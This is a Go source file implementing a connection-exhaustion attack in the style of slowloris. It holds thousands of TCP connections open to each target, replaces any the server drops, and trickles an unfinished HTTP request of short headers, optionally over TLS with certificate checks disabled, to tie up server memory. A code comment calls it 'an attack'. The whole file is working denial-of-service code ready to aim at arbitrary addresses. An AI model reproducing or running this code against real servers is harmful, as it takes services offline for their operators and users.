package main

import (
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"net"
	"os/signal"
	"sync/atomic"
	"syscall"
	"time"
)

// hold keeps many TCP connections to each address open without sending anything, and opens another for each that the
// server closes. It prints every second how many are open and how many were closed.
func hold(fs *flag.FlagSet, args []string) error {
	n := fs.Int("n", 1000, "connections to each address")
	headers := fs.Int("headers", 0, "bytes of short headers to send on each, of a request that never ends")
	plain := fs.Bool("plain", false, "send the headers without TLS")
	pause := fs.Duration("pause", 500*time.Millisecond, "before a closed connection is replaced")
	if err := fs.Parse(args); err != nil {
		return err
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
	defer stop()
	var open, closed atomic.Int64
	for _, address := range fs.Args() {
		for range *n {
			go func() {
				for ctx.Err() == nil {
					conn, err := (&net.Dialer{Timeout: time.Minute}).DialContext(ctx, "tcp", address)
					if err != nil {
						time.Sleep(*pause)
						continue
					}
					open.Add(1)
					if *headers > 0 {
						conn = begin(ctx, conn, *headers, *plain)
					}
					_, _ = conn.Read(make([]byte, 1)) // until the server closes it
					conn.Close()
					open.Add(-1)
					closed.Add(1)
					time.Sleep(*pause)
				}
			}()
		}
	}
	every := time.NewTicker(time.Second)
	defer every.Stop()
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-every.C:
			fmt.Printf("open %d closed %d\n", open.Load(), closed.Load())
		}
	}
}

// begin sends the beginning of a request with short headers, for which a server keeps much more memory than their bytes.
func begin(ctx context.Context, conn net.Conn, n int, plain bool) net.Conn {
	const letters = "abcdefghijklmnopqrstuvwxyz0123456789"
	if !plain {
		encrypted := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}) //nolint:gosec // an attack
		if encrypted.HandshakeContext(ctx) != nil {
			return conn
		}
		conn = encrypted
	}
	text := []byte("GET / HTTP/1.1\nHost: x\n")
	for i := 0; len(text) < n; i++ {
		text = append(text, letters[i%26], letters[i/26%36], letters[i/26/36%36], ':', '\n')
	}
	_, _ = conn.Write(text) // fails if the server has closed it
	return conn
}
